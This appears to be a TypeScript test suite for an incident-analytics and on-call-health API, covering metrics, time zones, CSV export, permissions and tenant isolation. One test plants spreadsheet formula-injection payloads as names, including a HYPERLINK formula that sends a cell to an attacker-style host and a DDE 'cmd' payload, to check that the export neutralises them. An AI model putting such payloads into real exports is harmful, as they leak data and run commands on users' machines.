/**
 * Incident analytics and on-call health over the scripted history of test/support/analytics-history.ts
 * (two weeks around Europe/Berlin's spring-forward): every number below is computed by hand from
 * that script, and the read model a rebuild makes is the one the runner made.
 */
import test from 'ava';
import { readFileSync } from 'node:fs';
import { INCIDENT_ANALYTICS, INCIDENT_PAGES } from '../projections/incident-analytics.js';
import { toCsv } from '../src/http/csv.js';
import { appTarget, HISTORY_RANGE, scriptHistory, type History } from './support/analytics-history.js';
import { startTestApp, type Caller, type TestApp } from './support/test-app.js';

let app: TestApp;
let caller: Caller;
let history: History;
test.before(async () => {
  app = await startTestApp();
  caller = app.newTenant();
  history = await scriptHistory(appTarget(app, caller));
  // Another tenant with the same history: none of it may show in the first tenant's numbers.
  await scriptHistory(appTarget(app, app.newTenant()));
});
test.after.always(async () => app?.close());

const range = `since=${HISTORY_RANGE.since}&until=${HISTORY_RANGE.until}`;
const get = (path: string, headers?: Record<string, string>, who: Caller = caller) =>
  app.request('GET', `/api/v1${path}`, { caller: who, headers });
const pages = (email: number, sms: number) => ({ chat: 0, email, pager: 0, webhook: 0, sms });
const resolved = (auto: number, manual: number, ruleDisabled: number) => ({
  auto,
  manual,
  rule_deleted: 0,
  rule_disabled: ruleDisabled,
  total: auto + manual + ruleDisabled,
});

/**
 * By hand. disk full: I1 (ack 300 s, manual 3600 s), I2 (auto 180 s), I3 (ack 1200 s, auto 2400 s,
 * stage 2, a failed email): MTTA (300+1200)/2 = 750, p90 of [300,1200] = 1200; MTTR
 * (3600+180+2400)/3 = 2060, p90 of [180,2400,3600] = 3600. slow queries: I4 (rule disabled after
 * 1800 s, stage 2), I5 open.
 */
const BY_RULE = [
  {
    label: 'disk full',
    opened: 3,
    acknowledged: 2,
    resolved: resolved(2, 1, 0),
    mtta_seconds: 750,
    p90_tta_seconds: 1200,
    mttr_seconds: 2060,
    p90_ttr_seconds: 3600,
    escalated_to_stage_2: 1,
    pages: pages(1, 2),
    failed_pages: 1,
  },
  {
    label: 'slow queries',
    opened: 2,
    acknowledged: 0,
    resolved: resolved(0, 0, 1),
    mtta_seconds: null,
    p90_tta_seconds: null,
    mttr_seconds: 1800,
    p90_ttr_seconds: 1800,
    escalated_to_stage_2: 1,
    pages: pages(3, 0),
    failed_pages: 0,
  },
];

test('by rule: opened, acknowledged, resolved by reason, MTTA/MTTR and their p90, stage-2 escalations, pages per medium and failures', async (t) => {
  const answer = await get(`/analytics/incidents?${range}&group_by=rule`);
  t.is(answer.status, 200, JSON.stringify(answer.body));
  t.like(answer.body.data, {
    since: '2026-03-23T00:00:00.000Z',
    until: '2026-04-06T00:00:00.000Z',
    group_by: 'rule',
    tz: 'UTC',
  });
  const groups = answer.body.data.groups as { key: string; label: string }[];
  t.deepEqual(
    groups.map(({ key: _key, ...rest }) => rest).sort((a, b) => a.label.localeCompare(b.label)),
    BY_RULE,
  );
  t.deepEqual(groups.map((g) => g.key).sort(), [history.rules.disk, history.rules.slow].sort());
});

test('the noisiest rules: incidents per week over the two weeks, and the share auto-resolved within five minutes', async (t) => {
  const answer = await get(`/analytics/incidents?${range}`);
  t.deepEqual(answer.body.data.noisiest, [
    {
      rule_id: history.rules.disk,
      rule_name: 'disk full',
      incidents: 3,
      incidents_per_week: 1.5,
      flapping: 1,
      flapping_share: 0.33,
    },
    {
      rule_id: history.rules.slow,
      rule_name: 'slow queries',
      incidents: 2,
      incidents_per_week: 1,
      flapping: 0,
      flapping_share: 0,
    },
  ]);
});

test('by day: UTC dates unless tz names a zone (23:00 UTC on 2 April is 3 April in Berlin)', async (t) => {
  const opened = async (query: string) =>
    ((await get(`/analytics/incidents?${range}&${query}`)).body.data.groups as { key: string; opened: number }[]).map(
      (g) => [g.key, g.opened],
    );
  t.deepEqual(await opened('group_by=day'), [
    ['2026-03-28', 1],
    ['2026-03-29', 1],
    ['2026-03-30', 1],
    ['2026-04-02', 1],
    ['2026-04-05', 1],
  ]);
  t.deepEqual(await opened('group_by=day&tz=Europe/Berlin'), [
    ['2026-03-28', 1],
    ['2026-03-29', 1],
    ['2026-03-30', 1],
    ['2026-04-03', 1],
    ['2026-04-05', 1],
  ]);
  t.deepEqual(
    await opened('group_by=week&tz=Europe/Berlin'),
    [
      ['2026-03-23', 2],
      ['2026-03-30', 3],
    ],
    'weeks start on Monday',
  );
  t.deepEqual(await opened('group_by=severity'), [
    ['critical', 3],
    ['medium', 2],
  ]);
  t.deepEqual(await opened('group_by=cluster'), [
    ['c1', 3],
    [null, 2],
  ]);
  t.deepEqual(await opened(`group_by=policy`), [[history.policyId, 5]]);
});

test('on-call health: pages, night pages in the zone of the schedule that paged (DST-aware), else UTC, and hours on call', async (t) => {
  const answer = await get(`/analytics/oncall?${range}`);
  t.is(answer.status, 200, JSON.stringify(answer.body));
  t.deepEqual(
    answer.body.data.people.map(({ name, email: _e, ...rest }: Record<string, unknown>) => ({ name, ...rest })),
    [
      // I1 22:30 Berlin (night), I3 stage 2 10:15 UTC, I4 23:00 UTC (night); the failed email is not a page received. Override 20:00 CET → 06:00 CEST: 9 h.
      {
        name: 'bob',
        user_id: history.bob,
        pages_received: 3,
        pages_at_night: 2,
        zones_used: [
          { zone: 'Europe/Berlin', source: 'schedule' },
          { zone: 'UTC', source: 'utc' },
        ],
        hours_on_call: 9,
      },
      // I2 07:30 CEST (06:30 had the clocks not changed: not night), I4 stage 2 01:10 Berlin (night), I5 14:00; the page of 20 March is before the range. 336 h − 9 h.
      {
        name: 'alice',
        user_id: history.alice,
        pages_received: 3,
        pages_at_night: 1,
        zones_used: [{ zone: 'Europe/Berlin', source: 'schedule' }],
        hours_on_call: 327,
      },
    ],
  );
});

test('Accept: text/csv answers the same numbers as CSV with a header row', async (t) => {
  const incidents = await get(`/analytics/incidents?${range}&group_by=severity`, { accept: 'text/csv' });
  t.is(incidents.status, 200);
  t.regex(incidents.headers.get('content-type')!, /^text\/csv/);
  const lines = String(incidents.body).split('\r\n');
  t.is(
    lines[0],
    'key,label,opened,acknowledged,resolved_auto,resolved_manual,resolved_rule_deleted,resolved_rule_disabled,resolved_total,mtta_seconds,p90_tta_seconds,mttr_seconds,p90_ttr_seconds,escalated_to_stage_2,pages_chat,pages_email,pages_pager,pages_webhook,pages_sms,failed_pages',
  );
  t.deepEqual(lines.slice(1), [
    'critical,,3,2,2,1,0,0,3,750,1200,2060,3600,1,0,1,0,0,2,1',
    'medium,,2,0,0,0,0,1,1,,,1800,1800,1,0,3,0,0,0,0',
    '',
  ]);
  const oncall = await get(`/analytics/oncall?${range}`, { accept: 'text/csv' });
  const rows = String(oncall.body).split('\r\n');
  t.is(rows[0], 'user_id,name,email,pages_received,pages_at_night,zones_used,hours_on_call');
  t.regex(
    rows[1]!,
    new RegExp(`^${history.bob},bob,bob-[^,]+@example\\.com,3,2,Europe/Berlin \\(schedule\\); UTC \\(utc\\),9$`),
  );
  t.regex(rows[2]!, new RegExp(`^${history.alice},alice,alice-[^,]+,3,1,Europe/Berlin \\(schedule\\),327$`));
});

test('CSV quoting follows RFC 4180', (t) => {
  t.is(
    toCsv(
      ['a', 'b'],
      [
        ['x,y', 'say "hi"'],
        ['line\nbreak', null],
      ],
    ),
    'a,b\r\n"x,y","say ""hi"""\r\n"line\nbreak",\r\n',
  );
});

test('CSV cells a spreadsheet would run as formulas (rule names, a person renamed) start with a quote; JSON keeps the names as they are', async (t) => {
  const formulas = app.newTenant();
  const hyperlink = '=HYPERLINK("http://evil.example/?d="&A2,"open")';
  const sum = '@SUM(1,1)';
  const named = await scriptHistory(appTarget(app, formulas), { disk: hyperlink, slow: sum });
  for (const [id, name] of [
    [named.bob, "+1+cmd|' /C calc'!A0"],
    [named.alice, '-2+3'],
  ] as const) {
    const renamed = await app.request('PATCH', `/api/v1/users/${id}`, { caller: formulas, body: { name } });
    t.is(renamed.status, 200, JSON.stringify(renamed.body));
    t.is(
      (await get(`/users/${id}`, { 'x-min-read-position': renamed.headers.get('x-read-position')! }, formulas)).body
        .data.name,
      name,
    );
  }
  const incidents = String(
    (await get(`/analytics/incidents?${range}&group_by=rule`, { accept: 'text/csv' }, formulas)).body,
  ).split('\r\n');
  const row = (ruleId: string) => incidents.find((line) => line.startsWith(`${ruleId},`));
  t.true(
    row(named.rules.disk)?.startsWith(
      `${named.rules.disk},"'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")",3,2,`,
    ),
    row(named.rules.disk),
  );
  t.true(row(named.rules.slow)?.startsWith(`${named.rules.slow},"'@SUM(1,1)",2,0,`), row(named.rules.slow));
  const oncall = String((await get(`/analytics/oncall?${range}`, { accept: 'text/csv' }, formulas)).body).split('\r\n');
  t.regex(oncall[1]!, new RegExp(`^${named.bob},'\\+1\\+cmd\\|' /C calc'!A0,bob-[^,]+@example\\.com,3,2,`));
  t.regex(
    oncall[2]!,
    new RegExp(`^${named.alice},'-2\\+3,alice-[^,]+,3,1,Europe/Berlin \\(schedule\\),327$`),
    'the counts are numbers, not neutralised',
  );
  const json = await get(`/analytics/incidents?${range}&group_by=rule`, undefined, formulas);
  t.deepEqual((json.body.data.groups as { label: string }[]).map((g) => g.label).sort(), [sum, hyperlink].sort());
  t.deepEqual(
    ((await get(`/analytics/oncall?${range}`, undefined, formulas)).body.data.people as { name: string }[]).map(
      (p) => p.name,
    ),
    ["+1+cmd|' /C calc'!A0", '-2+3'],
  );
});

test('on-call health names people to analytics:read alone; their email only with iam:read as well (JSON and CSV)', async (t) => {
  const role = await app.request('POST', '/api/v1/roles', {
    caller,
    body: { name: 'Analysts', permissions: { 'analytics:read': 'allow', 'iam:read': 'deny' } },
  });
  t.is(role.status, 201, JSON.stringify(role.body));
  const analyst: Caller = { ...app.newTenant(), tenantId: caller.tenantId, roles: ['Analysts'] };
  t.is((await get('/users', undefined, analyst)).status, 403, 'the analyst may not list users');
  const people = (await get(`/analytics/oncall?${range}`, undefined, analyst)).body.data.people as Record<
    string,
    unknown
  >[];
  t.deepEqual(
    people.map((p) => [p.name, 'email' in p]),
    [
      ['bob', false],
      ['alice', false],
    ],
  );
  const csv = String((await get(`/analytics/oncall?${range}`, { accept: 'text/csv' }, analyst)).body).split('\r\n');
  t.is(csv[0], 'user_id,name,pages_received,pages_at_night,zones_used,hours_on_call');
  t.is(csv[1], `${history.bob},bob,3,2,Europe/Berlin (schedule); UTC (utc),9`);
  t.false(csv.join('\n').includes('@example.com'));

  const viewer = { ...caller, roles: ['viewer'] };
  const seen = (await get(`/analytics/oncall?${range}`, undefined, viewer)).body.data.people as {
    name: string;
    email: string;
  }[];
  t.true(
    seen.every((p) => p.email.startsWith(`${p.name}-`) && p.email.endsWith('@example.com')),
    'a viewer holds iam:read: the emails',
  );
  t.regex(
    String((await get(`/analytics/oncall?${range}`, { accept: 'text/csv' }, viewer)).body).split('\r\n')[0]!,
    /^user_id,name,email,/,
  );
});

test('a tenant sees only its own incidents and people', async (t) => {
  const stranger = app.newTenant();
  const incidents = await get(`/analytics/incidents?${range}`, undefined, stranger);
  t.deepEqual(incidents.body.data.groups, []);
  t.deepEqual(incidents.body.data.noisiest, []);
  t.deepEqual((await get(`/analytics/oncall?${range}`, undefined, stranger)).body.data.people, []);
});

test('bad ranges, groupings and zones are 400 problems naming the field; without analytics:read, 403', async (t) => {
  const cases: [string, string][] = [
    [`/analytics/incidents?${range}&group_by=month`, '/group_by'],
    [`/analytics/incidents?${range}&tz=Mars/Olympus`, '/tz'],
    [`/analytics/incidents?since=2026-04-06T00:00:00Z&until=2026-03-23T00:00:00Z`, '/until'],
    [`/analytics/incidents?since=2025-01-01T00:00:00Z&until=2026-03-23T00:00:00Z`, '/until'],
    [`/analytics/oncall?since=yesterday`, '/since'],
    [`/analytics/oncall?${range}&group_by=rule`, '/group_by'],
  ];
  for (const [path, field] of cases) {
    const answer = await get(path);
    t.is(answer.status, 400, path);
    t.regex(answer.headers.get('content-type')!, /application\/problem\+json/);
    t.true(
      (answer.body.errors as { path: string }[]).some((e) => e.path === field),
      `${path}: ${JSON.stringify(answer.body)}`,
    );
  }
  t.is(
    (await get(`/analytics/incidents?${range}`, undefined, { ...caller, roles: ['viewer'] })).status,
    200,
    'viewers read analytics',
  );
  t.is((await get(`/analytics/incidents?${range}`, undefined, { ...caller, roles: [] })).status, 403);
});

test('a rebuild from the log reproduces the read model exactly', async (t) => {
  const snapshot = async () => [
    await app.platform.readStore.find(INCIDENT_ANALYTICS, { tenantId: caller.tenantId }, { sort: [['id', 'asc']] }),
    await app.platform.readStore.find(INCIDENT_PAGES, { tenantId: caller.tenantId }, { sort: [['id', 'asc']] }),
  ];
  const before = await snapshot();
  t.deepEqual(
    before.map((docs) => docs.length),
    [6, 8],
    'six incidents, eight pages (one failed)',
  );
  await app.platform.runner.rebuild('incidentAnalytics');
  t.deepEqual(await snapshot(), before);
});

/** The rows of the Markdown table whose header row starts with `first`, as cells. */
const tableRows = (markdown: string, first: string) => {
  const lines = markdown.split('\n');
  const start = lines.findIndex((line) => line.startsWith(`| ${first} |`));
  const rows: string[][] = [];
  for (let i = start + 2; i < lines.length && lines[i]!.startsWith('|'); i++)
    rows.push(
      lines[i]!.split('|')
        .slice(1, -1)
        .map((cell) => cell.trim()),
    );
  return rows;
};

test('the worked example of docs/analytics.md and the README shows the numbers this history answers', async (t) => {
  const doc = readFileSync('docs/analytics.md', 'utf8');
  const byRule = (await get(`/analytics/incidents?${range}&group_by=rule`)).body.data.groups as typeof BY_RULE;
  const shown = (value: number | null) => (value === null ? '–' : String(value));
  t.deepEqual(
    tableRows(doc, 'rule'),
    [...byRule]
      .sort((a, b) => a.label.localeCompare(b.label))
      .map((g) => [
        g.label,
        String(g.opened),
        String(g.acknowledged),
        `${g.resolved.auto} / ${g.resolved.manual} / ${g.resolved.rule_disabled}`,
        shown(g.mtta_seconds),
        shown(g.p90_tta_seconds),
        shown(g.mttr_seconds),
        shown(g.p90_ttr_seconds),
        String(g.escalated_to_stage_2),
        `${g.pages.email} / ${g.pages.sms}`,
        String(g.failed_pages),
      ]),
  );
  const people = (await get(`/analytics/oncall?${range}`)).body.data.people as {
    name: string;
    pages_received: number;
    pages_at_night: number;
    zones_used: { zone: string; source: string }[];
    hours_on_call: number;
  }[];
  t.deepEqual(
    tableRows(doc, 'person'),
    people.map((p) => [
      p.name,
      String(p.pages_received),
      String(p.pages_at_night),
      p.zones_used.map((z) => `${z.zone} (${z.source})`).join('; '),
      String(p.hours_on_call),
    ]),
  );
  const disk = byRule.find((g) => g.label === 'disk full')!;
  const bob = people.find((p) => p.name === 'bob')!;
  const noisy = (await get(`/analytics/incidents?${range}`)).body.data.noisiest[0];
  const readme = readFileSync('README.md', 'utf8')
    .split('\n')
    .find((line) => line.includes('(docs/analytics.md)'))!;
  t.true(
    readme.includes(
      `rule \`disk full\` ${disk.opened} opened, MTTA ${disk.mtta_seconds} s, p90 TTR ${disk.p90_ttr_seconds} s, ${noisy.flapping} flapping; ` +
        `bob ${bob.pages_received} pages, ${bob.pages_at_night} at night, ${bob.hours_on_call} h on call`,
    ),
    readme,
  );
});
